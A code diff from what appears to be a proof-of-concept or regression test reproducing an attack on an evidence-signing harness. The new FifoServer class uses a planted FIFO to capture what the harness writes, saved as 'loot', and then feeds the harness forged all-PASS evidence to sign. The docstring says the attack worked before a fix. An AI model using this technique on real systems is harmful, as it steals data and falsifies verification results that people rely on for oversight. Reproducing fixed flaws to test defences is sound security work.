@@ -300,6 +300,7 @@ def helper(outs: list[str]) -> int:
     deadline = time.monotonic() + min(seconds, 600.0)
     record("helper-start", "self", outs=outs, bound_s=seconds)
     tally: dict[str, dict[str, int]] = {}
+    fifo: FifoServer | None = None
     rounds = 0
     reason = "deadline"
     last_note = time.monotonic()
@@ -313,7 +314,10 @@ def helper(outs: list[str]) -> int:
                 counts[result] = counts.get(result, 0) + 1
                 if result == "ok":
                     record("helper-plant-landed", name, out=out)
-                    drain_fifo()
+                    if name == LINK_PLANTS[0]:
+                        fifo = fifo or FifoServer()
+        if fifo is not None:
+            fifo.poll()
         rounds += 1
         if time.monotonic() - last_note > 1.0:
             record("helper-progress", "self", rounds=rounds, results=tally)
@@ -331,20 +335,49 @@ def helper(outs: list[str]) -> int:
     return 0
 
 
-def drain_fifo() -> None:
-    """A landed FIFO plant: read what the harness wrote through it (the original attack)."""
-    try:
-        fd = os.open(drop_dir() / FIFO, os.O_RDONLY | os.O_NONBLOCK)
-    except OSError:
-        return
-    try:
-        data = os.read(fd, 1 << 20)
-    except OSError:
-        data = b""
-    finally:
-        os.close(fd)
-    if data:
-        keep_loot("captured-through-fifo.bin", data)
+class FifoServer:
+    """The original attack's second half, once a FIFO plant has landed.
+
+    The harness (before the fix) wrote evidence through `evidence.json.tmp` into the FIFO,
+    renamed the link over `evidence.json`, and then re-read it to sign: so first read what it
+    writes (keep a reader open, or its open() blocks forever), then, once it has closed its
+    end, feed any reader that comes the forged all-PASS evidence.
+    """
+
+    def __init__(self) -> None:
+        """Nothing is open until a plant lands."""
+        self.reader: int | None = None
+        self.captured = bytearray()
+        self.served = 0
+
+    def poll(self) -> None:
+        """One step: drain what the harness wrote, or serve the forgery to its next read."""
+        fifo = drop_dir() / FIFO
+        if self.reader is None and not self.captured:
+            with contextlib.suppress(OSError):
+                self.reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
+        if self.reader is not None:
+            try:
+                chunk = os.read(self.reader, 1 << 20)
+            except BlockingIOError:
+                return  # the harness holds its end open but has not written yet
+            if chunk:
+                self.captured += chunk
+                keep_loot("captured-through-fifo.bin", bytes(self.captured))
+                return
+            if not self.captured:
+                return  # no writer yet
+            os.close(self.reader)  # the harness closed its end: its write is complete
+            self.reader = None
+        try:
+            writer = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
+        except OSError:
+            return  # ENXIO: nobody reads the FIFO right now
+        with contextlib.suppress(OSError):
+            os.write(writer, forged_evidence())
+            self.served += 1
+            record("helper-fifo-served", FIFO, times=self.served)
+        os.close(writer)
 
 
 # --- c. the signer -----------------------------------------------------------------------
